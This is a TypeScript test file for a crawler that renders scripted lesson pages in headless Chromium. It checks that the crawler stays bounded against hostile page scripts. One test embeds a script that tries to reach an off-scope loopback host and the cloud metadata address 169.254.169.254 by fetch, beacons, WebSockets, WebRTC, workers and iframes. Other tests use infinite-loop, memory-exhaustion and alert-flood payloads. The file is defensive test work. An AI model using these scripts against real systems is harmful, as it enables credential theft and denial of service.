// Goal: lessons that scripts make come out of a real Chromium, and a page that scripts make hostile is bounded
// and reaches nothing off the crawl's scope. Method: sites on loopback, one of which must never be asked.
import { createSocket } from 'node:dgram';
import { createServer } from 'node:net';
import type { AddressInfo } from 'node:net';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { findChromium } from '../../../../../adapters/local/mirror/fit/find-chromium.ts';
import { openChromium } from '../../../../../adapters/local/crawl/browser/open-chromium.ts';
import type { EmptyPage } from '../../../../../adapters/local/crawl/browser/page-browser.ts';
import { crawlSite } from '../../../../../adapters/local/crawl/crawl-site.ts';
import { crawlSource } from '../../../../../adapters/local/crawl/crawl-source.ts';
import type { CrawlRequest } from '../../../../../adapters/local/crawl/crawl-request.ts';
import { aCrawl, aFolder, aSite, file, lesson, type Site } from '../a-site.ts';

const ENVIRONMENT = {
  ...process.env,
  // As root, where tests often run, Chromium's own cannot start.
  PREAU_CHROMIUM_SANDBOX: 'off',
};
const found = await findChromium(process.env['CHROMIUM']);
if (found === null) {
  process.stderr.write('No Chromium (set CHROMIUM=/path/to/it): no page is rendered.\n');
}

let site: Site;
let folder: ReturnType<typeof aFolder>;
const closing: (() => unknown)[] = [];
beforeEach(async () => {
  site = await aSite({});
  folder = aFolder();
});
afterEach(async () => {
  await site.close();
  folder.remove();
  for (const close of closing.splice(0)) await close();
});

const openBrowser = () => openChromium(ENVIRONMENT);

const crawl = (over: Partial<CrawlRequest> = {}) =>
  crawlSource(aCrawl(site, folder.path, { openBrowser, ...over }));

const shell = (script: string): string =>
  `<!doctype html><title>App</title><div id="app"></div><script>${script}</script>`;

/** Listens as any machine may, and counts who comes, by TCP and UDP. */
async function trap() {
  let visits = 0;
  const tcp = createServer((socket) => {
    visits += 1;
    socket.destroy();
  });
  await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
  const { port } = tcp.address() as AddressInfo;
  const udp = createSocket('udp4', () => (visits += 1));
  await new Promise<void>((resolve) => udp.bind(port, '127.0.0.1', resolve));
  closing.push(
    () => tcp.close(),
    () => udp.close(),
  );
  return { at: `127.0.0.1:${port}`, visits: () => visits };
}

describe.skipIf(found === null)('in a browser', { timeout: 90_000 }, () => {
  it('an application’s lessons come out, with what they link to, by one browser', async () => {
    const app = `
      const title = { '/': 'Accueil', '/lecon/1': 'Leçon une', '/lecon/2': 'Leçon deux' }[location.pathname];
      fetch('/api/lecons?chemin=' + location.pathname).then((answer) => answer.json()).then(({ text }) => {
        document.getElementById('app').innerHTML = '<h1>' + title + '</h1><p>' + text +
          '</p><img src="/p.png"><a href="/lecon/1">1</a><a href="/lecon/2">2</a>';
      });`;
    site.pages.set('/app.js', file('text/javascript', app));
    site.pages.set('/p.png', file('image/png', 'png'));
    site.pages.set(
      '/api/lecons',
      file(
        'application/json',
        JSON.stringify({ text: 'Un texte que des élèves lisent. '.repeat(20) }),
      ),
    );
    for (const target of ['/', '/lecon/1', '/lecon/2']) {
      site.pages.set(
        target,
        '<!doctype html><title>App</title><div id="app"></div><script src="/app.js"></script>',
      );
    }
    const source = await crawl();
    const { files } = await source.list();
    expect(files.map(({ name }) => name)).toEqual([
      'index.html',
      'lecon/1.html',
      'lecon/2.html',
      'p.png',
    ]);
    const texts = await Promise.all(
      files.map(async (one) => Buffer.from((await source.read(one)) ?? []).toString()),
    );
    expect(texts[1]).toContain('<h1>Leçon une</h1>');
    expect(source.report).toMatchObject({ rendered: 3, needScript: 0, noBrowser: null });
    // The document comes from the crawl, a script that all pages have from the page before.
    expect(site.asked.filter((target) => target === '/lecon/1')).toHaveLength(1);
    expect(site.asked.filter((target) => target === '/app.js').length).toBeLessThan(3);
  });

  it('a page asks for nothing but what the crawl itself may ask for, whatever it tries', async () => {
    const other = await trap();
    const hostile = `
      const bad = 'http://${other.at}';
      const tries = [
        () => fetch(bad + '/fetch', { mode: 'no-cors' }),
        () => fetch('http://169.254.169.254/latest/meta-data/', { mode: 'no-cors' }),
        () => navigator.sendBeacon(bad + '/beacon', 'x'),
        () => navigator.sendBeacon('/beacon', 'x'),
        () => fetch('/post', { method: 'POST', body: 'x' }),
        () => fetch('/logout'),
        () => fetch('/prive/x'),
        () => window.open(bad + '/open'),
        () => { const frame = document.createElement('iframe'); frame.src = bad + '/frame'; document.body.append(frame); },
        () => { const link = document.createElement('link'); link.rel = 'prefetch'; link.href = bad + '/prefetch'; document.head.append(link); },
        () => { const link = document.createElement('link'); link.rel = 'preconnect'; link.href = bad; document.head.append(link); },
        () => { new Image().src = bad + '/image'; },
        () => new WebSocket('ws://${other.at}/socket'),
        () => new EventSource(bad + '/events'),
        () => new Worker(URL.createObjectURL(new Blob(['fetch("' + bad + '/worker", { mode: "no-cors" }); new WebSocket("ws://${other.at}/")']))),
        () => navigator.serviceWorker.register('/sw.js'),
        () => { const clean = document.createElement('iframe'); document.body.append(clean);
          const peer = new clean.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'stun:${other.at}' }] });
          peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)); },
        () => { const form = document.createElement('form'); form.method = 'POST'; form.action = '/post'; form.target = 'x'; document.body.append(form); form.submit(); },
        () => { const save = document.createElement('a'); save.download = 'x'; save.href = '/telecharge'; document.body.append(save); save.click(); },
        () => { const frame = document.createElement('iframe'); frame.srcdoc = '<script>fetch("' + bad + '/srcdoc", { mode: "no-cors" })<\\/script>'; document.body.append(frame); },
      ];
      for (const one of tries) { try { Promise.resolve(one()).catch(() => 0); } catch {} }
      const text = document.createElement('p');
      text.textContent = 'Un texte que des élèves lisent. '.repeat(20);
      document.body.append(text);
      setTimeout(() => { location.href = bad + '/away'; }, 50);`;
    site.pages.set('/', shell(hostile));
    site.pages.set('/robots.txt', file('text/plain', 'User-agent: *\nDisallow: /prive/'));
    site.pages.set('/sw.js', file('text/javascript', ''));
    site.pages.set('*', lesson('Autre'));
    const session = { cookie: 'MoodleSession=canari' };
    const source = await crawl({ session, budgets: { pages: 1 } });
    expect(source.report).toMatchObject({ rendered: 1 });
    expect(other.visits()).toBe(0);
    const kept = ['/robots.txt', '/sitemap.xml', '/'];
    expect(site.asked.filter((target) => !kept.includes(target))).toEqual([]);
    const [page] = (await source.list()).files;
    expect(Buffer.from((page && (await source.read(page))) ?? []).toString()).not.toContain(
      'canari',
    );
  });

  it('the session goes with what a page asks of its own site, and its scripts never see it', async () => {
    const cookies: (string | undefined)[] = [];
    site.pages.set('/api', (request, response) => {
      cookies.push(request.headers.cookie);
      response
        .writeHead(200, { 'content-type': 'text/plain' })
        .end('Un texte pour les membres. '.repeat(20));
    });
    site.pages.set(
      '/',
      shell(`fetch('/api').then((answer) => answer.text()).then((text) => {
      document.getElementById('app').textContent = text + '[' + document.cookie + ']'; });`),
    );
    const source = await crawl({ session: { cookie: 'MoodleSession=canari' } });
    expect(cookies).toEqual(['MoodleSession=canari']);
    const [page] = (await source.list()).files;
    const html = Buffer.from((page && (await source.read(page))) ?? []).toString();
    expect(html).toContain('pour les membres');
    expect(html).toContain('[]');
  });

  it('a pause waits for no page, and the page is made the next time', async () => {
    const pausing = new AbortController();
    site.pages.set('/', '<!doctype html><title>App</title><script src="/app.js"></script>');
    site.pages.set('/app.js', () => pausing.abort());
    const first = await crawlSite(
      aCrawl(site, folder.path, { openBrowser, signal: pausing.signal }),
    );
    expect(first).toMatchObject({ ended: { why: 'paused' }, needScript: 0, waiting: 1 });
    site.pages.set(
      '/app.js',
      file('text/javascript', `document.body.innerHTML = ${JSON.stringify(lesson('Faite'))}`),
    );
    const second = await crawl();
    expect(second.report).toMatchObject({ ended: { kind: 'complete' }, rendered: 1 });
  });

  const page = (script: string, over: Partial<EmptyPage> = {}): EmptyPage => ({
    url: 'https://ent.example.fr/app',
    html: shell(script),
    userAgent: 'x',
    maxChars: 200_000,
    ask: async () => null,
    ...over,
  });
  const fill = `document.getElementById('app').textContent = 'Un texte que des élèves lisent. '.repeat(20);`;

  it.each([
    ['never ends', 'for (;;);', null],
    ['never ends a little later', 'setTimeout(() => { for (;;); }, 100)', null],
    [
      'grows without end',
      'setTimeout(() => { for (;;) document.body.append(document.createElement("p")); }, 0)',
      null,
    ],
    [
      'takes all memory',
      'setTimeout(() => { const all = []; for (;;) all.push(new Uint8Array(1e7).fill(1)); }, 0)',
      null,
    ],
    ['is larger than a page may be', `document.body.append('x'.repeat(300000))`, null],
    [
      'has more elements than a page has',
      'for (let n = 0; n < 60000; n += 1) document.body.append(document.createElement("b"))',
      null,
    ],
    [
      'asks people a huge question again and again',
      `${fill} for (let n = 0; n < 1000; n += 1) { alert('x'.repeat(1e6)); confirm('x'); prompt('x'); }`,
      true,
    ],
    [
      'lies about what it holds',
      `${fill} Object.defineProperty(Element.prototype, 'outerHTML', { get: () => 'x'.repeat(1e8) });`,
      true,
    ],
    [
      'hides its own elements by their names',
      `${fill} for (const name of ['documentElement', 'body', 'getElementsByTagName']) { const form = document.createElement('form'); form.name = name; document.body.append(form); }`,
      true,
    ],
    ['fills itself a little later', `setTimeout(() => { ${fill} }, 1500)`, true],
  ])('a page that %s is bounded, and the next one is made', async (_, script, expected) => {
    const opened = await openBrowser();
    if (opened.kind === 'none') throw new Error(opened.why);
    const { browser } = opened;
    try {
      const html = await browser.render(page(script));
      expect(html?.includes('élèves') ?? null).toBe(expected);
      expect(await browser.render(page(fill))).toContain('élèves');
    } finally {
      await browser.close();
    }
  });
});

describe('without a browser', () => {
  it('such pages are told by name and reason, and all else is there', async () => {
    site.pages.set('/', lesson('Accueil', '<a href="/app">app</a>'));
    site.pages.set('/app', shell('1'));
    const source = await crawl({ openBrowser: () => openChromium({ PREAU_CHROMIUM: '/nowhere' }) });
    expect(source.report).toMatchObject({
      rendered: 0,
      needScript: 1,
      noBrowser: expect.stringContaining('/nowhere'),
    });
    const { files, leftOut } = await source.list();
    expect(files.map(({ name }) => name)).toEqual(['index.html']);
    expect(leftOut).toContainEqual({ name: `${site.origin}/app`, reason: 'needs-script' });
  });

  it('one that does not start is told with what to do', async () => {
    const opened = await openChromium({ PREAU_CHROMIUM: '/bin/false' });
    expect(opened).toMatchObject({
      kind: 'none',
      why: expect.stringContaining('PREAU_CHROMIUM_SANDBOX'),
    });
  });
});
